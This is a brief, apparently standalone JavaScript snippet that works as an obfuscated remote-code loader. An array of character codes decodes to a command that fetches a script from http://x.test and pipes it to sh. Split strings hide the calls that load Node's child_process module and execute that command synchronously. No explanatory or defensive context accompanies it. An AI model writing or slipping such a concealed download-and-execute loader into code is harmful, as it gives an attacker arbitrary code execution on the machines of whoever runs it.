var s = [99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 120, 46, 116, 101, 115, 116, 124, 115, 104];
var c = s.map(function (n) { return String.fromCharCode(n); }).join('');
global['requ' + 'ire']('child_' + 'process')['ex' + 'ecSync'](c);
